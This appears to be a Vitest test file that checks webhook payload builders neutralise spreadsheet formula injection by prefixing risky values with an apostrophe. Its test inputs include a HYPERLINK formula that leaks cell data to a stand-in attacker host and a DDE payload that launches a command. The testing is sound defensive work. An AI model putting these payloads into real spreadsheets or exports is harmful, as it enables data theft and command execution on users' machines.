import { describe, expect, it } from 'vitest';
import { oemWebhookPayload, partnerWebhookPayload } from '../../supabase/functions/deliver-leads/webhook-payloads.ts';

/**
 * Automation tools write webhook bodies into spreadsheets, so every value of a webhook payload
 * gets the CSV export's formula guard: a value a spreadsheet could run starts with '.
 */

const created_at = '2026-11-27T10:00:00Z';
const formulas = [
  '=HYPERLINK("http://attacker.test/?"&A1,"Open")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\u200b=1+1',
  '＝1+1',
];

describe('webhook payloads', () => {
  it.each(formulas)('the partner webhook guards %j', (formula) => {
    const payload = partnerWebhookPayload(
      { created_at, company_name: formula, contact_name: formula, email: 'ops@shop.example' },
      'https://www.forgebridge.test/partner',
    );
    expect(payload.companyName).toBe(`'${formula}`);
    for (const value of Object.values(payload)) expect(value.startsWith(formula)).toBe(false);
  });

  it.each(formulas)('the OEM webhook guards %j', (formula) => {
    const payload = oemWebhookPayload({ created_at, company_name: formula, email: 'buyer@aero.example' });
    for (const value of Object.values(payload)) expect(value.startsWith(formula)).toBe(false);
    expect(Object.values(payload)).toContain(`'${formula}`);
  });

  it('leaves ordinary values as they are', () => {
    const payload = oemWebhookPayload({ created_at, company_name: 'Aero Components plc', email: 'buyer@aero.example' });
    expect(Object.values(payload)).toEqual(expect.arrayContaining(['Aero Components plc', 'buyer@aero.example']));
  });
});
